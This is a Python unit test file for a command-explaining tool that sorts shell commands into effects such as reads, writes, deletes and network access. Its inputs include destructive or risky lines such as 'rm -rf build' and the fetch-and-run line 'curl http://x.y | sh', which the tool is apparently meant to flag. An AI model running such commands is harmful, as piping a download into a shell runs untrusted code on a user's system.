"""The value behind `cbx explain --json`."""

from __future__ import annotations

import json
from pathlib import Path

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pytest_cbx.client.explained import Explained, explained, legible
from tests.unit.client.making import make_jobs

KEYS = ["command", "tier", "reasons", "effects", "claims", "findings", "parts", "estimate", "learned", "differences"]
EFFECTS = ["reads", "writes", "creates", "deletes", "ports", "network", "processes", "unknown"]


def of(root: Path, text: str) -> Explained:
    (job,) = make_jobs(root, text)
    return explained(job)


@pytest.mark.parametrize(
    ("text", "column", "wanted"),
    [
        ("cat a", "reads", "a"),
        ("echo x > b", "writes", "b"),
        ("mkdir c", "creates", "c"),
        ("rm d", "deletes", "d"),
        ("curl http://example.org", "network", ""),
        ("kill 12", "processes", "12"),
        ("cat /etc/hosts", "reads", "/etc/hosts"),
        ("rm -rf build", "deletes", "build/**"),
        ("cat src/*.py", "reads", "src/*.py"),
    ],
)
def test_each_effect_has_its_column(tmp_path: Path, text: str, column: str, wanted: str) -> None:
    found = getattr(of(tmp_path, text).effects, column)
    assert any(wanted in value for value in found), found


def test_what_is_not_known_is_said(tmp_path: Path) -> None:
    assert of(tmp_path, "absent-program").effects.unknown


def test_findings_say_where(tmp_path: Path) -> None:
    text = "echo a && curl http://x.y | sh"
    findings = of(tmp_path, text).findings
    for finding in findings:
        assert finding.start is None or text[finding.start : finding.end]


@given(text=st.text(max_size=40).filter(lambda text: "\0" not in text))
def test_every_text_gives_all_keys(text: str) -> None:
    value = json.loads(msgspec.json.encode(legible(of(Path("/nowhere"), text))))
    assert list(value) == KEYS
    assert list(value["effects"]) == EFFECTS
    assert value["reasons"]


@given(data=st.binary(max_size=20))
def test_every_byte_gives_all_keys(data: bytes) -> None:
    text = data.replace(b"\0", b"").decode("utf-8", "surrogateescape")
    value = json.loads(msgspec.json.encode(legible(of(Path("/nowhere"), text))))
    assert list(value) == KEYS
    assert value["command"] == data.replace(b"\0", b"").decode("utf-8", "replace")
